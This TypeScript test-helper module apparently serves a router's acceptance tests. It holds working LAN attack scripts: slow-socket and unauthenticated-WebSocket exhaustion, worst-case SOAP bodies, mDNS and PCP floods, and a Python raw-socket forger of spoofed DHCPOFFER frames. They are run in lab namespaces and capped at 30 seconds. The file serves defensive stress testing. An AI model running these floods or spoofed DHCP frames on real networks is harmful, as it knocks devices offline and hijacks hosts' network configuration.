/**
 * The hostile LAN host and its victims, as self-contained node scripts run
 * inside lab namespaces (`ip netns exec <ns> node -e <script>`): the attacker
 * holds slow sockets on the IGD and admin ports (reconnecting whatever the
 * server closes) and unauthenticated WebSockets (raw handshakes, never an
 * auth message); the victims time their own requests. Bounded: counts and a
 * hold time given by the caller (at most 30 s).
 *
 * The same host can also flood ({@link startFloods}, for the combined
 * acceptance test): SOAP bodies crafted for worst-case parsing on the IGD,
 * an mDNS flood of made-up Matter hosts with huge TTLs, forged DHCPOFFERs
 * with option 108 for another host's MAC (raw frames with the router's
 * address as source, as the router would send them) plus DISCOVERs from
 * rotating made-up MACs, and a PCP MAP flood on UDP 5351.
 */
import { ChildProcess, ChildProcessWithoutNullStreams, spawn } from 'node:child_process';
import { readFile } from 'node:fs/promises';

/** Attacker: argv = host igdPort adminPort slowPerPort webSockets holdMs reconnectMs. Prints "ready" then, at the end, one JSON line of counts. */
const ATTACKER = String.raw`
const net = require('net');
const [host, igdPort, adminPort, perPort, wsCount, holdMs, reconnectMs] = process.argv.slice(1).map((v, i) => (i === 0 ? v : Number(v)));
const stats = { opened: 0, closedByServer: 0, answered503: 0, wsUpgraded: 0, wsRefused: 0 };
let stopping = false;
const sockets = new Set();
function slow(port, head, isWs) {
  if (stopping) return Promise.resolve();
  return new Promise((resolve) => {
    const s = net.connect({ host, port });
    sockets.add(s);
    s.on('connect', () => { stats.opened++; s.write(head); resolve(); });
    s.on('data', (d) => {
      const t = d.toString('latin1');
      if (t.startsWith('HTTP/1.1 503')) stats.answered503++;
      if (isWs && t.startsWith('HTTP/1.1 101')) stats.wsUpgraded++;
      else if (isWs && t.startsWith('HTTP/1.1 ')) stats.wsRefused++;
    });
    s.on('error', () => resolve());
    s.on('close', () => {
      sockets.delete(s);
      resolve();
      if (stopping) return;
      stats.closedByServer++;
      setTimeout(() => slow(port, head, isWs), reconnectMs); // reconnect: keep the pressure on
    });
  });
}
const httpHead = (path) => 'GET ' + path + ' HTTP/1.1\r\nHost: ' + host + '\r\n';
const wsHead = 'GET /ws HTTP/1.1\r\nHost: ' + host + '\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n';
(async () => {
  const jobs = [];
  // The WebSockets first, so they (not the slow HTTP sockets) take the plug's unauthenticated admin slots.
  for (let i = 0; i < wsCount; i++) jobs.push(() => slow(adminPort, wsHead, true));
  for (let i = 0; i < perPort; i++) { jobs.push(() => slow(igdPort, httpHead('/igd/desc.xml'), false)); jobs.push(() => slow(adminPort, httpHead('/api/grants'), false)); }
  for (let i = 0; i < jobs.length; i += 50) await Promise.all(jobs.slice(i, i + 50).map((j) => j()));
  const drip = setInterval(() => { for (const s of sockets) if (s.writable) s.write('X-Slow: 1\r\n'); }, 1000);
  process.stdout.write('ready\n');
  setTimeout(() => {
    stopping = true;
    clearInterval(drip);
    for (const s of sockets) s.destroy();
    process.stdout.write(JSON.stringify(stats) + '\n');
    process.exit(0);
  }, holdMs);
})();
`;

/** Victim: argv = url count intervalMs [bearer] [soapAction]. Sequential, paced requests on fresh connections; prints one JSON line. */
const VICTIM = String.raw`
const http = require('http');
const [url, count, intervalMs, bearer, soapAction] = process.argv.slice(1);
const u = new URL(url);
const body = soapAction ? '<?xml version="1.0"?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" s:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><s:Body><u:' + soapAction.split('#')[1] + ' xmlns:u="' + soapAction.split('#')[0] + '"></u:' + soapAction.split('#')[1] + '></s:Body></s:Envelope>' : undefined;
function once() {
  return new Promise((resolve) => {
    const t0 = process.hrtime.bigint();
    const headers = {};
    if (bearer) headers.Authorization = 'Bearer ' + bearer;
    if (body) { headers['Content-Type'] = 'text/xml; charset="utf-8"'; headers.SOAPAction = '"' + soapAction + '"'; headers['Content-Length'] = Buffer.byteLength(body); }
    const req = http.request({ host: u.hostname.replace(/^\[|\]$/g, ''), port: u.port, path: u.pathname, method: body ? 'POST' : 'GET', headers, agent: false, timeout: 5000 }, (res) => {
      res.resume();
      res.on('end', () => resolve({ status: res.statusCode, ms: Number(process.hrtime.bigint() - t0) / 1e6 }));
    });
    req.on('timeout', () => req.destroy(new Error('timeout')));
    req.on('error', () => resolve({ status: 0, ms: Number(process.hrtime.bigint() - t0) / 1e6 }));
    req.end(body);
  });
}
(async () => {
  const out = [];
  for (let i = 0; i < Number(count); i++) {
    out.push(await once());
    await new Promise((r) => setTimeout(r, Number(intervalMs)));
  }
  process.stdout.write(JSON.stringify(out) + '\n');
})();
`;

/**
 * Flooder: argv = one JSON of {@link FloodTarget}. Prints "ready" once every flood runs, then at the
 * end one JSON line of {@link FloodCounts}. The DHCP frames come from a Python child (raw sockets).
 */
const FLOODER = String.raw`
const http = require('http');
const dgram = require('dgram');
const { spawn } = require('child_process');
const t = JSON.parse(process.argv[1]);
const counts = { soapSent: 0, soapAnswered: {}, soapFailed: 0, mdnsPackets: 0, mdnsHosts: 0, mdnsBytes: 0, pcpSent: 0, pcpAnswered: 0, dhcp: null };
let stopping = false;
const until = Date.now() + t.holdMs;

// 1. SOAP bodies crafted for worst-case parsing: distinct empty tags up to 16 KiB, and a long SOAPAction header.
const tags = []; let size = 0;
for (let i = 0; size < 15 * 1024; i++) { const tag = '<a' + i.toString(36) + '/>'; tags.push(tag); size += tag.length; }
const soapBody = '<?xml version="1.0"?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body><u:AddPinhole xmlns:u="urn:schemas-upnp-org:service:WANIPv6FirewallControl:1">' + tags.join('') + '</u:AddPinhole></s:Body></s:Envelope>';
const soapAction = '"urn:schemas-upnp-org:service:WANIPv6FirewallControl:1#' + 'A#'.repeat(3900) + 'AddPinhole"';
function soapLoop() {
  if (stopping || Date.now() > until) return Promise.resolve();
  return new Promise((resolve) => {
    const req = http.request({ host: t.routerIpv4, port: t.igdPort, path: '/igd/ctl/IPv6Firewall', method: 'POST', agent: false, timeout: 5000,
      headers: { 'Content-Type': 'text/xml; charset="utf-8"', SOAPAction: soapAction, 'Content-Length': Buffer.byteLength(soapBody) } }, (res) => {
      counts.soapAnswered[res.statusCode] = (counts.soapAnswered[res.statusCode] || 0) + 1;
      res.resume();
      res.on('end', resolve);
    });
    req.on('timeout', () => req.destroy(new Error('timeout')));
    req.on('error', () => { counts.soapFailed++; setTimeout(resolve, 20); });
    counts.soapSent++;
    req.end(soapBody);
  }).then(soapLoop);
}

// 2. mDNS: packets of made-up commissionable Matter hosts (PTR, SRV, TXT, AAAA), TTL 0x7fffffff, new host names every packet.
function name(labels) { return Buffer.concat([...labels.map((l) => Buffer.concat([Buffer.from([l.length]), Buffer.from(l)])), Buffer.from([0])]); }
function rr(nameBytes, type, rdata) {
  const h = Buffer.alloc(10); h.writeUInt16BE(type, 0); h.writeUInt16BE(type === 12 ? 1 : 0x8001, 2); /* PTR is shared: no cache-flush bit */ h.writeUInt32BE(0x7fffffff, 4); h.writeUInt16BE(rdata.length, 8);
  return Buffer.concat([nameBytes, h, rdata]);
}
let hostSeq = 0;
function mdnsPacket() {
  const parts = []; let answers = 0;
  const service = name(['_matterc', '_udp', 'local']); // at offset 12
  const SERVICE = Buffer.from([0xc0, 12]); const LOCAL = Buffer.from([0xc0, 12 + 9 + 5]);
  for (let i = 0; i < t.mdnsHostsPerPacket; i++) {
    const n = hostSeq++;
    const inst = Buffer.concat([Buffer.from([16]), Buffer.from(n.toString(16).padStart(16, '0').toUpperCase()), SERVICE]);
    const host = Buffer.concat([Buffer.from([12]), Buffer.from(n.toString(16).padStart(12, '0')), LOCAL]);
    parts.push(rr(parts.length === 0 ? service : SERVICE, 12, inst));
    const srv = Buffer.alloc(6); srv.writeUInt16BE(5540, 4);
    parts.push(rr(inst, 33, Buffer.concat([srv, host])));
    parts.push(rr(inst, 16, Buffer.concat(['CM=1', 'VP=65521+1', 'DT=10'].map((e) => Buffer.concat([Buffer.from([e.length]), Buffer.from(e)])))));
    const aaaa = Buffer.alloc(16); aaaa.writeUInt16BE(0xfd00, 0); aaaa.writeUInt16BE(0xdead, 2); aaaa.writeUInt32BE(n, 12);
    parts.push(rr(host, 28, aaaa));
    answers += 4;
  }
  const header = Buffer.alloc(12); header.writeUInt16BE(0x8400, 2); header.writeUInt16BE(answers, 6);
  counts.mdnsHosts += t.mdnsHostsPerPacket;
  return Buffer.concat([header, ...parts]);
}

// 4. PCP MAP requests (RFC 6887), each with a new nonce and port.
function pcpMap(i) {
  const b = Buffer.alloc(60);
  b[0] = 2; b[1] = 1; b.writeUInt32BE(7200, 4);
  b.writeUInt16BE(0xffff, 18); t.attackerIpv4.split('.').forEach((o, k) => (b[20 + k] = Number(o)));
  b.writeUInt32BE(i, 24); b[36] = 17; b.writeUInt16BE(20000 + (i % 40000), 40); b.writeUInt16BE(20000 + (i % 40000), 42);
  return b;
}

(async () => {
  const v4 = dgram.createSocket({ type: 'udp4', reuseAddr: true });
  await new Promise((r) => v4.bind(5353, r));
  v4.setMulticastInterface(t.attackerIpv4);
  v4.setMulticastTTL(255);
  const v6 = dgram.createSocket({ type: 'udp6', reuseAddr: true });
  await new Promise((r) => v6.bind(5353, r));
  v6.setMulticastInterface('::%' + t.interfaceName);
  v6.on('error', () => undefined); v4.on('error', () => undefined);
  const pcp = dgram.createSocket('udp4');
  pcp.on('message', () => counts.pcpAnswered++);
  pcp.on('error', () => undefined);
  await new Promise((r) => pcp.bind(0, r));
  const timers = [];
  if (t.mdnsPacketsPerSecond > 0) timers.push(setInterval(() => {
    const packet = mdnsPacket();
    counts.mdnsPackets++; counts.mdnsBytes += packet.length;
    if (counts.mdnsPackets % 2) v4.send(packet, 5353, '224.0.0.251'); else v6.send(packet, 5353, 'ff02::fb%' + t.interfaceName);
  }, 1000 / t.mdnsPacketsPerSecond));
  let pcpSeq = 0;
  if (t.pcpPerTick > 0) timers.push(setInterval(() => { for (let k = 0; k < t.pcpPerTick; k++) { counts.pcpSent++; pcp.send(pcpMap(pcpSeq++), t.pcpPort, t.routerIpv4); } }, 10));
  const dhcp = spawn('python3', ['-c', t.dhcpScript, t.victimMac, t.routerIpv4, t.victimIpv4, String(t.holdMs / 1000), String(t.dhcpOffersPerSecond), String(t.dhcpDiscoversPerSecond), t.interfaceName], { stdio: ['ignore', 'pipe', 'inherit'] });
  let dhcpOut = '';
  dhcp.stdout.on('data', (d) => (dhcpOut += d));
  const dhcpDone = new Promise((r) => dhcp.on('exit', r));
  const soap = [];
  for (let i = 0; i < t.soapSenders; i++) soap.push(soapLoop());
  process.stdout.write('ready\n');
  await new Promise((r) => setTimeout(r, t.holdMs));
  stopping = true;
  timers.forEach(clearInterval);
  await Promise.race([Promise.all(soap), new Promise((r) => setTimeout(r, 6000))]);
  await Promise.race([dhcpDone, new Promise((r) => setTimeout(r, 3000))]);
  try { counts.dhcp = JSON.parse(dhcpOut.trim().split('\n').pop()); } catch { counts.dhcp = { error: dhcpOut }; }
  v4.close(); v6.close(); pcp.close();
  process.stdout.write(JSON.stringify(counts) + '\n');
  process.exit(0);
})();
`;

/** Forged DHCP frames (Python: raw AF_PACKET). argv: victimMac routerIpv4 victimIpv4 seconds offersPerSecond discoversPerSecond interface. */
const DHCP_FORGER = [
  'import socket,struct,sys,time,os,json',
  "mac=bytes.fromhex(sys.argv[1].replace(':',''));router=socket.inet_aton(sys.argv[2]);victim=socket.inet_aton(sys.argv[3])",
  'seconds=float(sys.argv[4]);offers=float(sys.argv[5]);discovers=float(sys.argv[6])',
  's=socket.socket(socket.AF_PACKET,socket.SOCK_RAW);s.bind((sys.argv[7],0));own=s.getsockname()[4][:6]',
  'def csum(h):',
  "  c=sum(struct.unpack('!10H',h));c=(c>>16)+(c&0xffff);c+=c>>16;return h[:10]+struct.pack('!H',~c&0xffff)+h[12:]",
  'def frame(src_mac,src_ip,dst_ip,sport,dport,payload):',
  "  udp=struct.pack('!HHHH',sport,dport,8+len(payload),0)+payload",
  "  ip=csum(struct.pack('!BBHHHBBH4s4s',0x45,0,20+len(udp),0,0,64,17,0,src_ip,dst_ip))",
  '  return bytes([255]*6)+src_mac+bytes([8,0])+ip+udp',
  'def offer():',
  "  bootp=struct.pack('!BBBBIHH4s4s4s4s16s64s128s',2,1,6,0,0x9109,0,0x8000,bytes(4),victim,router,bytes(4),mac,b'',b'')",
  "  return frame(own,router,bytes([255]*4),67,68,bootp+struct.pack('!I',0x63825363)+bytes([53,1,2,54,4])+router+bytes([108,4])+struct.pack('!I',1800)+bytes([255]))",
  'def discover(i):',
  "  m=bytes([0x0a,0x42])+struct.pack('!I',i)",
  "  bootp=struct.pack('!BBBBIHH4s4s4s4s16s64s128s',1,1,6,0,i,0,0x8000,bytes(4),bytes(4),bytes(4),bytes(4),m,b'',b'')",
  "  return frame(m,bytes(4),bytes([255]*4),68,67,bootp+struct.pack('!I',0x63825363)+bytes([53,1,1,55,3,1,3,108,255]))",
  'n={"offers":0,"discovers":0};start=time.time();i=0',
  'while time.time()-start<seconds:',
  '  el=time.time()-start',
  '  while n["offers"]<el*offers: s.send(offer()); n["offers"]+=1',
  '  while n["discovers"]<el*discovers: s.send(discover(i)); i+=1; n["discovers"]+=1',
  '  time.sleep(0.01)',
  'print(json.dumps(n))',
].join('\n');

export interface FloodTarget {
  readonly routerIpv4: string;
  readonly attackerIpv4: string;
  readonly interfaceName: string;
  readonly igdPort: number;
  readonly pcpPort: number;
  /** The host whose MAC the forged DHCPOFFERs name (option 108: "IPv6-only"). */
  readonly victimMac: string;
  readonly victimIpv4: string;
  readonly holdMs: number;
  /** Concurrent senders of worst-case SOAP bodies (each sends its next as soon as the last is answered). */
  readonly soapSenders: number;
  readonly mdnsPacketsPerSecond: number;
  readonly mdnsHostsPerPacket: number;
  readonly dhcpOffersPerSecond: number;
  readonly dhcpDiscoversPerSecond: number;
  /** PCP MAP requests every 10 ms. */
  readonly pcpPerTick: number;
}

export interface FloodCounts {
  readonly soapSent: number;
  readonly soapAnswered: Record<string, number>;
  readonly soapFailed: number;
  readonly mdnsPackets: number;
  readonly mdnsHosts: number;
  readonly mdnsBytes: number;
  readonly pcpSent: number;
  readonly pcpAnswered: number;
  readonly dhcp: { offers: number; discovers: number } | { error: string } | null;
}

export interface RunningFloods {
  done(): Promise<FloodCounts>;
  readonly child: ChildProcess;
}

/**
 * Waits (20 s at most) for `child` to print `ready`, then gives a `done` that waits for its exit and parses its last
 * stdout line as its counts; `what` names it in the errors.
 */
async function whenReady<T>(child: ChildProcessWithoutNullStreams, what: string): Promise<{ child: ChildProcess; done(): Promise<T> }> {
  let out = '';
  let err = '';
  child.stdout.on('data', (c: Buffer) => (out += c.toString()));
  child.stderr.on('data', (c: Buffer) => (err += c.toString()));
  const exited = new Promise<number>((resolve) => child.on('exit', (code) => resolve(code ?? -1)));
  const deadline = Date.now() + 20_000;
  while (!out.includes('ready\n')) {
    if (child.exitCode !== null || Date.now() > deadline) {
      child.kill('SIGKILL');
      throw new Error(`${what} did not get ready: ${err}`);
    }
    await new Promise((r) => setTimeout(r, 20));
  }
  return {
    child,
    done: async () => {
      const code = await exited;
      if (code !== 0) throw new Error(`${what} exited ${code}: ${err}`);
      return JSON.parse(out.trim().split('\n').pop() ?? '') as T;
    },
  };
}

/** Starts the floods in `namespace` and resolves once they run (bounded to 30 s like the attacker). */
export async function startFloods(namespace: string, target: FloodTarget): Promise<RunningFloods> {
  if (target.holdMs > 30_000) throw new RangeError('the floods are bounded to 30 s');
  const child = spawn('ip', ['netns', 'exec', namespace, process.execPath, '-e', FLOODER, JSON.stringify({ ...target, dhcpScript: DHCP_FORGER })]);
  return whenReady<FloodCounts>(child, 'flooder');
}

export interface AttackCounts {
  readonly opened: number;
  readonly closedByServer: number;
  readonly answered503: number;
  readonly wsUpgraded: number;
  readonly wsRefused: number;
}

export interface RunningAttack {
  /** Waits for the attacker to finish its hold time; its counts. */
  done(): Promise<AttackCounts>;
  readonly child: ChildProcess;
}

/** Starts the attacker in `namespace` (undefined: this namespace) and resolves once its sockets are open. */
export async function startAttacker(
  namespace: string | undefined,
  target: { host: string; igdPort: number; adminPort: number; slowPerPort: number; webSockets: number; holdMs: number; reconnectMs: number },
): Promise<RunningAttack> {
  if (target.holdMs > 30_000) throw new RangeError('the attack is bounded to 30 s');
  const args = ['-e', ATTACKER, target.host, String(target.igdPort), String(target.adminPort), String(target.slowPerPort), String(target.webSockets), String(target.holdMs), String(target.reconnectMs)];
  const child = namespace ? spawn('ip', ['netns', 'exec', namespace, process.execPath, ...args]) : spawn(process.execPath, args);
  return whenReady<AttackCounts>(child, 'attacker');
}

export interface Timed {
  readonly status: number;
  readonly ms: number;
}

/**
 * `count` sequential requests to `url` from `namespace` (fresh connection each, `intervalMs`
 * apart: a well-behaved client stays under the admin API's per-address rate limit); GET, or a
 * SOAP POST when `soapAction` is `serviceType#Action`.
 */
export function timeRequests(namespace: string | undefined, url: string, count: number, options: { bearer?: string; soapAction?: string; intervalMs?: number } = {}): Promise<Timed[]> {
  const args = ['-e', VICTIM, url, String(count), String(options.intervalMs ?? 25), options.bearer ?? '', ...(options.soapAction ? [options.soapAction] : [])];
  const child = namespace ? spawn('ip', ['netns', 'exec', namespace, process.execPath, ...args]) : spawn(process.execPath, args);
  let out = '';
  let err = '';
  child.stdout.on('data', (c: Buffer) => (out += c.toString()));
  child.stderr.on('data', (c: Buffer) => (err += c.toString()));
  return new Promise((resolve, reject) => {
    const timer = setTimeout(() => child.kill('SIGKILL'), 60_000);
    child.on('exit', (code) => {
      clearTimeout(timer);
      if (code !== 0) reject(new Error(`victim exited ${String(code)}: ${err}`));
      else resolve(JSON.parse(out.trim()) as Timed[]);
    });
  });
}

/** Resident memory (kB) of a process, from /proc. */
export async function residentKb(pid: number): Promise<number> {
  const status = await readFile(`/proc/${pid}/status`, 'utf8');
  const kb = /VmRSS:\s+(\d+) kB/.exec(status)?.[1];
  if (kb === undefined) throw new Error(`no VmRSS for pid ${pid}`);
  return Number(kb);
}

/** CPU time (ms, user + system) a process has used, from /proc (clock ticks of 10 ms, as on Linux). */
export async function cpuMs(pid: number): Promise<number> {
  const stat = await readFile(`/proc/${pid}/stat`, 'utf8');
  // Fields after the command name (which may contain spaces) start at ') '.
  const fields = stat.slice(stat.lastIndexOf(')') + 2).split(' ');
  const utime = Number(fields[11]);
  const stime = Number(fields[12]);
  if (!Number.isFinite(utime) || !Number.isFinite(stime)) throw new Error(`no CPU times for pid ${pid}`);
  return (utime + stime) * 10;
}
